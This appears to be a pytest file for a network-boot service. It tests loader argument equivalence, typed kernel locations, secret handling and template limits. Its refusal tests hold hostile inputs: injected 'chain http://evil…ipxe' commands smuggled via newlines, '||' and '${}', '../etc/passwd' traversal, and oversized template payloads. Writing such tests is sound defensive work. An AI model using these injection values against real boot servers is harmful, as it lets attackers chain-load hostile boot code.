"""The boot plan: the same arguments through every loader, typed locations, the one safety check,
template limits and contexts (issue 12 section 1, issue 13 F1, F2, F9)."""

from __future__ import annotations

import dataclasses
import re

import pytest
from bootkit import AOE, BASE, CASES, MAC, NETROOT_AOE, SAN, host, render

from services.dhcp import policy as dhcp_policy
from services.dhcp.codec import Message, MessageType, Opt
from services.http import policy
from services.http.settings import HttpSection
from services.tftp import render as tftp_render
from services.tftp.settings import TftpSection
from shared import bootcmdline, bootcontext, bootplan, boottarget, scriptvalues
from shared.records import Profile
from shared.schema import KINDS
from shared.validation import parse_record

# ------------------------------------------------------------------ equivalence across loaders

KERNEL_LOADERS = ("ipxe", "grub-http", "grub-tftp", "pxelinux", "ipxe-tftp-alone")


def kernel_args(text: str, loader: str) -> list[str]:
    """The kernel arguments a loader's text gives, without the loader's own mechanics:
    ``initrd=<name>`` (ipxe.efi hands the kernel only the initrds named there) and
    ``BOOTIF=`` (PXELINUX's IPAPPEND 2, written out for GRUB and iPXE over TFTP)."""
    if loader == "pxelinux":
        line = next((x for x in text.splitlines() if x.strip().startswith("APPEND ")),
                    "APPEND")
        words = line.split()[1:]
    elif loader.startswith("grub"):
        line = next(line_ for line_ in text.splitlines() if line_.strip().startswith("linux "))
        words = [w.strip("'") for w in line.split()[2:]]
    else:
        line = next(line_ for line_ in text.splitlines() if line_.startswith("kernel "))
        words = line.split()[2:]
        if words[-3:] == ["||", "goto", "failed"]:
            words = words[:-3]
    return [w for w in words if not w.startswith(("initrd=", "BOOTIF="))]


@pytest.mark.parametrize("case", ["install", "install-urls", "live-dracut", "live-rooturl",
                                  "netroot-aoe", "netroot-iscsi"])
def test_same_host_same_mode_same_arguments_through_every_loader(case):
    found = {}
    for loader in KERNEL_LOADERS:
        text = render(case, loader)
        if loader == "ipxe-tftp-alone" and text.startswith("ERROR"):
            # without tftp.http_base_url a live root (fetched over HTTP) or an iSCSI portal is
            # not known: said, not guessed
            assert case in ("live-dracut", "live-rooturl", "netroot-iscsi"), text
            continue
        found[loader] = kernel_args(text, loader)
    alone = found.pop("ipxe-tftp-alone", None)
    assert len(set(map(tuple, found.values()))) == 1, found
    if alone is not None:  # without tftp.http_base_url there is no booted URL to name
        assert alone == [w for w in found["ipxe"] if not w.startswith("bootyard.booted=")]
    h, profile, export, _ = CASES[case]
    expected = bootplan.plan(MAC, h, profile, export,
                             bootplan.Facts(base_url=BASE, san_server=SAN))
    assert found["ipxe"] == " ".join(expected.args).split()


def test_live_and_netroot_over_tftp_carry_their_root():
    """The bug: PXELINUX and GRUB over TFTP gave live/netroot hosts no root argument."""
    booted = f"bootyard.booted=http://10.0.0.1:8080/booted/{MAC}"
    assert "APPEND root=live:http://10.0.0.1:8080/images/live/root.squashfs ip=dhcp " \
           f"rd.neednet=1 {booted} rw quiet\n" in render("live-dracut", "pxelinux")
    assert "linux /images/live/vmlinuz root=/dev/etherd/e0.1 netroot=aoe:e0.1 rd.neednet=1 " \
           f"ip=dhcp {booted} ro BOOTIF=01-52-54-00-12-34-56\n" in render("netroot-aoe",
                                                                      "grub-tftp")


def test_netroot_has_its_own_style_field():
    kernel_style = dataclasses.replace(NETROOT_AOE, netroot_style="kernel", live_style="dracut")
    plan = bootplan.plan(MAC, host(boot_mode="netroot", profile="diskless"), kernel_style, AOE,
                         bootplan.Facts(base_url=BASE, san_server=SAN))
    assert plan.args == ("root=/dev/etherd/e0.1", "ip=dhcp",
                         f"bootyard.booted={BASE}/booted/{MAC}", "ro")
    # live_style no longer changes a netroot host's arguments
    rooturl = dataclasses.replace(NETROOT_AOE, live_style="rooturl")
    plan = bootplan.plan(MAC, host(boot_mode="netroot", profile="diskless"), rooturl, AOE,
                         bootplan.Facts(base_url=BASE, san_server=SAN))
    assert "netroot=aoe:e0.1" in plan.args
    record, problems = parse_record(KINDS["profile"], "p", {"netroot_style": "rooturl"})
    assert record is None and "must be one of dracut, kernel" in str(problems[0])


def test_booted_url_on_live_and_netroot_command_lines_only():
    """A live or netroot system names its booted URL (docs/http.md); with the token only when
    http.token_in_scripts gives the plan one; an install boot has none (it calls done)."""
    facts = bootplan.Facts(base_url=BASE + "/", san_server=SAN)
    for case in ("live-dracut", "live-rooturl", "netroot-aoe", "netroot-iscsi"):
        plan = bootplan.plan(MAC, *CASES[case][:3], facts)
        assert f"bootyard.booted={BASE}/booted/{MAC}" in plan.args, (case, plan.args)
    assert not any(a.startswith("bootyard.booted=") for a in bootplan.plan(
        MAC, *CASES["install"][:3], facts).args)
    tokened = bootplan.plan(MAC, *CASES["netroot-aoe"][:3],
                            dataclasses.replace(facts, token="abc123"))
    assert f"bootyard.booted={BASE}/booted/{MAC}?token=abc123" in tokened.args
    context = bootcontext.template_context(MAC, None, None, None, BASE, url_token=None,
                                           done_token=None)
    assert context["urls"]["booted"] == f"{BASE}/booted/{MAC}"


def test_export_target_contract():
    plan = bootplan.plan(MAC, *CASES["netroot-iscsi"][:3],
                         bootplan.Facts(base_url=BASE, san_server=SAN))
    assert plan.target == boottarget.Target("web1-root", "iscsi", portal="10.0.0.1",
                                            iqn="iqn.2026-11.org.example:web1", lun=1)
    assert plan.target.san_uri == "iscsi:10.0.0.1:::1:iqn.2026-11.org.example:web1"
    assert plan.initiator == "iqn.2026-11.org.bootyard:web1"
    aoe = boottarget.target(AOE, "")
    assert (aoe.kind, aoe.shelf, aoe.slot, aoe.san_uri) == ("aoe", 0, 1, "aoe:e0.1")


# ------------------------------------------------------------------ typed locations

TFTP_KERNEL = Profile(name="tk", kernel="tftp://10.0.0.9/boot/vmlinuz",
                      initrd=("tftp://10.0.0.9:1069/boot/initrd.img",), cmdline="ro")


def test_tftp_kernel_is_a_tftp_url_for_every_loader():
    h = host(profile="tk")
    ctx = policy.BootContext(base_url=BASE, san_server=SAN)
    ipxe = policy.ipxe_script(MAC, h, TFTP_KERNEL, None, ctx).text
    assert "kernel tftp://10.0.0.9/boot/vmlinuz initrd=initrd.img ro || goto failed\n" in ipxe
    assert "initrd --name initrd.img tftp://10.0.0.9:1069/boot/initrd.img || goto failed\n" \
        in ipxe
    assert "%3A" not in ipxe and "/images/tftp" not in ipxe
    grub = policy.grub_config(MAC, h, TFTP_KERNEL, None, ctx).text
    assert "    linux (tftp,10.0.0.9)/boot/vmlinuz ro\n" in grub
    assert "    initrd (tftp,10.0.0.9:1069)/boot/initrd.img\n" in grub
    boot = tftp_render.plan(MAC, h, TFTP_KERNEL, http_base_url=BASE)
    assert "  KERNEL tftp://10.0.0.9/boot/vmlinuz\n" in tftp_render.pxelinux(boot)
    assert "  linux (tftp,10.0.0.9)/boot/vmlinuz ro" in tftp_render.grub(boot)


def test_one_grub_path_helper_leaves_default_ports_out():
    assert scriptvalues.grub_device_path("http://10.0.0.1:80/a/k") == "(http,10.0.0.1)/a/k"
    assert scriptvalues.grub_device_path("http://10.0.0.1:8080/a/k") == "(http,10.0.0.1:8080)/a/k"
    assert scriptvalues.grub_device_path("tftp://10.0.0.1:69/k") == "(tftp,10.0.0.1)/k"
    boot = tftp_render.plan(MAC, host(profile="remote"), dataclasses.replace(
        CASES["install-urls"][1], kernel="http://mirror.example:80/d/linux"), http_base_url=BASE)
    assert "  linux (http,mirror.example)/d/linux" in tftp_render.grub(boot)
    assert policy.grub_path("http://mirror.example:80/d/linux") == "(http,mirror.example)/d/linux"


@pytest.mark.parametrize("value,kind", [
    ("debian/linux", "image"), ("/debian/linux", "image"), ("http://m/x?a=1&b=2", "http"),
    ("https://m:8443/x", "https"), ("tftp://10.0.0.9/boot/vmlinuz", "tftp")])
def test_locations_accepted(value, kind):
    assert scriptvalues.parse_location(value).scheme == kind


@pytest.mark.parametrize("value,reason", [
    ("http://m/linux || chain http://evil/x.ipxe", "without spaces"),
    ("http://m/linux${x}", "without spaces"),
    ("ftp://m/linux", "only http, https and tftp"),
    ("../etc/passwd", "no '.' or '..'"),
    ("a/../../b", "no '.' or '..'"),
    ("http:///nohost", "names no server"),
    ("linux\nchain http://evil", "without spaces")])
def test_locations_refused(value, reason):
    with pytest.raises(ValueError, match=re.escape(reason)):
        scriptvalues.parse_location(value)


# ------------------------------------------------------------------ F2: values that go into scripts

def test_f2_newline_in_initiator_iqn_is_refused_at_write_time():
    evil = "iqn.2026-11.org.x:a\nchain http://evil.example/evil.ipxe"
    record, problems = parse_record(KINDS["host"], MAC, {"var.initiator_iqn": evil})
    assert record is None
    assert str(problems[0]).startswith(f"bootyard:host:{MAC} var.initiator_iqn=")
    assert "expected an iSCSI name" in problems[0].reason
    for other in ("iqn.2026-11.org.x:a${net0/mac}", "iqn.2026-11.org.x:a||chain"):
        assert parse_record(KINDS["host"], MAC, {"var.initiator_iqn": other})[0] is None
    assert parse_record(KINDS["host"], MAC,
                        {"var.initiator_iqn": "iqn.2026-11.org.x:web1"})[0] is not None


def test_f2_chain_in_kernel_url_is_refused_at_write_time():
    record, problems = parse_record(KINDS["profile"], "p", {
        "kernel": "http://10.0.0.1/linux || chain http://evil.example/x.ipxe"})
    assert record is None
    assert str(problems[0]).startswith("bootyard:profile:p kernel=")
    record, problems = parse_record(KINDS["profile"], "p", {"initrd": "a.img,b.img;reboot"})
    assert record is None and problems[0].field == "initrd"


def test_f2_values_that_bypassed_the_schema_never_reach_a_script():
    """A record built in memory (or by a future code path) is checked again by the plan."""
    ctx = policy.BootContext(base_url=BASE, san_server=SAN)
    evil = host(boot_mode="sanboot", profile="diskless",
                vars={"initiator_iqn": "iqn.x:a\nchain http://evil.example/e.ipxe"})
    script = policy.ipxe_script(MAC, evil, *CASES["sanboot-iscsi"][1:3], ctx)
    assert script.outcome == "error" and "initiator" in script.reason
    assert all(not line_.startswith("chain") for line_ in script.text.splitlines())
    assert "$" not in script.text.replace("${errno}", "") and "||" not in script.text
    chained = dataclasses.replace(CASES["install"][1],
                                  kernel="http://10.0.0.1/linux || chain http://evil/x")
    for make in (policy.ipxe_script, policy.grub_config):
        script = make(MAC, host(), chained, None, ctx)
        assert script.outcome == "error" and "kernel=" in script.reason
    with pytest.raises(tftp_render.RenderError, match="kernel="):
        tftp_render.pxelinux(tftp_render.plan(MAC, host(), chained, http_base_url=BASE))


@pytest.mark.parametrize("cmdline,problem", [
    ("ro {{ vars.extra }}", "control character"),
    ("ro x=${net0/mac}", "'$'"),
    ("ro || chain http://evil/x", "iPXE would run"),
])
def test_f2_rendered_cmdline_is_checked_once(cmdline, problem):
    profile = dataclasses.replace(CASES["install"][1], cmdline=cmdline)
    h = host(vars={"extra": "a\nchain http://evil/x"})
    with pytest.raises(bootcmdline.TemplateFailed, match=re.escape(problem)):
        bootplan.plan(MAC, h, profile, None, bootplan.Facts(base_url=BASE))
    with pytest.raises(tftp_render.RenderError, match=re.escape(problem)):
        tftp_render.grub(tftp_render.plan(MAC, h, profile, http_base_url=BASE))


# ------------------------------------------------------------------ F1: no secret in scripts

def test_f1_boot_script_context_holds_no_secret_unless_token_in_scripts():
    profile = dataclasses.replace(CASES["install"][1], cmdline="console=ttyS0")
    ctx = bootcontext.template_context(MAC, host(), profile, None, BASE, url_token=None,
                                       done_token=None)
    assert "token" not in ctx and "done_url" not in ctx and "done" not in ctx["urls"]
    assert "TOKEN" not in repr(ctx)
    leaky = dataclasses.replace(profile, cmdline="console=ttyS0 bootyard.done={{ done_url }}")
    with pytest.raises(bootcmdline.TemplateFailed, match="http.token_in_scripts"):
        bootplan.plan(MAC, host(), leaky, None, bootplan.Facts(base_url=BASE))
    opted = bootplan.plan(MAC, host(), leaky, None, bootplan.Facts(base_url=BASE, token="TOKEN"))
    assert opted.args[-1].endswith(f"/install/{MAC}/done?token=TOKEN")
    install = bootcontext.template_context(MAC, host(), profile, None, BASE, url_token=None,
                                           done_token="TOKEN")
    assert install["token"] == "TOKEN" and install["done_url"].endswith("done?token=TOKEN")
    assert install["urls"]["preseed"].endswith("preseed.cfg")


# ------------------------------------------------------------------ F9: bounded templates

@pytest.mark.parametrize("cmdline,reason", [
    ("{{ 'a' * 20000000 }}", "a repetition above"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
     "'For' is not allowed"),
    ("{% set a = 'x' %}{{ a }}", "'Assign' is not allowed"),
    ("{{ 2 ** 100000000 }}", "'Pow' is not allowed"),
    ("{{ '%99999999s' % 'a' }}", "'Mod' is not allowed"),
    ("{{ 'a'|center(20000000) }}", "filter 'center' is not allowed"),
    ("{{ 'a'.ljust(20000000) }}", "calls are not allowed"),
    ("{{ range(10)|join }}", "calls are not allowed"),
    ("x" * 5000, "longer than 4096"),
    ("{{ unclosed", "template syntax error"),
])
def test_f9_heavy_templates_are_refused_at_write_time(cmdline, reason):
    record, problems = parse_record(KINDS["profile"], "p", {"cmdline": cmdline})
    assert record is None, problems
    assert problems[0].field == "cmdline" and reason in problems[0].reason, problems


def test_f9_render_is_bounded_even_for_records_that_skipped_validation():
    h = host()
    for cmdline, reason in [("{{ 'a' * 4000 * 4000 }}", "above 4096"),
                            ("{{ 'a' * 20000000 }}", "a repetition above"),
                            ("{% for i in range(9) %}x{% endfor %}", "not allowed"),
                            ("{{ 'abcd' * 1000 }} {{ 'abcd' * 1000 }}", "more than 2048")]:
        profile = dataclasses.replace(CASES["install"][1], cmdline=cmdline)
        # stopped at the limit, before the value is built (no 16 MB string, no stall)
        with pytest.raises(bootcmdline.TemplateFailed, match=re.escape(reason)):
            bootplan.plan(MAC, h, profile, None, bootplan.Facts(base_url=BASE))


def test_ordinary_cmdline_templates_still_pass():
    for cmdline in ("inst.ks={{ urls.kickstart }} inst.ks.sendmac ip=dhcp",
                    ("{% if host.hostname %}hostname={{ host.hostname|lower }}{% endif %} "
                    "{{ vars.get('console', 'console=tty0') }} {{ vars.disk|default('sda') }}"),
                    "console=ttyS0 quiet panic=-1 bootyard.marker=m-1234"):
        assert parse_record(KINDS["profile"], "p", {"cmdline": cmdline})[0] is not None, cmdline


# ------------------------------------------------------------------ unknown hosts, one vocabulary

def test_unknown_host_one_vocabulary():
    assert bootplan.UNKNOWN_HOST == ("discovery", "local", "none", "menu")
    assert bootplan.unknown_host_choice("exit") == "none"  # HTTP's old spelling, deprecated
    assert bootplan.unknown_host_choice(" Profile:Rescue ") == "profile:rescue"
    with pytest.raises(ValueError, match="discovery, local, none, menu or profile:<name>"):
        bootplan.unknown_host_choice("boot")
    with pytest.raises(ValueError, match="names a profile"):
        bootplan.unknown_host_choice("profile:")
    for value in ("discovery", "local", "none", "exit", "menu", "profile:rescue"):
        HttpSection(unknown_host=value)
    for value in bootplan.UNKNOWN_HOST + ("profile:rescue",):
        TftpSection(unknown_host=value)
    assert render("unknown-none", "ipxe") == \
        "outcome=unknown\n#!ipxe\n# bootyard: unknown host 52:54:00:12:34:56\nexit\n"


# ------------------------------------------------------------------ DHCP: who chooses the loader

def _ipxe_request(arch: int) -> Message:
    options = {Opt.MESSAGE_TYPE: bytes([MessageType.DISCOVER]),
               Opt.CLIENT_SYSTEM_ARCH: arch.to_bytes(2, "big"),
               Opt.VENDOR_CLASS_ID: b"PXEClient:Arch:00000:UNDI:002001",
               Opt.USER_CLASS: b"\x04iPXE"}
    return Message(op=1, xid=7, flags=0x8000, ciaddr="0.0.0.0", giaddr="0.0.0.0",
                   chaddr=bytes.fromhex(MAC.replace(":", "")) + bytes(10), options=options)


DHCP_CTX = dhcp_policy.ServerContext(server_ip="10.0.0.1", http_base_url=BASE)


@pytest.mark.parametrize("arch,variables,profile_vars,file,reason", [
    (0, {}, {}, f"{BASE}/boot/ipxe?mac={MAC}", "ipxe-script"),
    (0, {"boot_file_bios": "pxelinux.0"}, {}, "pxelinux.0", "bios"),
    (0, {}, {"boot_file_bios": "lpxelinux.0"}, "lpxelinux.0", "bios"),
    (7, {"boot_file_uefi": "grub/x86_64-efi/core.efi"}, {}, "grub/x86_64-efi/core.efi",
     "uefi-x64"),
    # naming iPXE itself would loop: iPXE gets its script
    (0, {"boot_file_bios": "undionly.kpxe"}, {}, f"{BASE}/boot/ipxe?mac={MAC}", "ipxe-script"),
    (7, {"boot_file_uefi": "custom/snponly.efi"}, {}, f"{BASE}/boot/ipxe?mac={MAC}",
     "ipxe-script"),
    # a loader named for another architecture does not apply
    (7, {"boot_file_bios": "pxelinux.0"}, {}, f"{BASE}/boot/ipxe?mac={MAC}", "ipxe-script"),
])
def test_named_loader_wins_over_the_ipxe_rule(arch, variables, profile_vars, file, reason):
    h = host(vars=variables)
    profile = dataclasses.replace(CASES["install"][1], vars=profile_vars)
    choice = dhcp_policy.choose_boot(_ipxe_request(arch), h, profile, None, DHCP_CTX, MAC)
    assert (choice.file, choice.reason) == (file, reason)
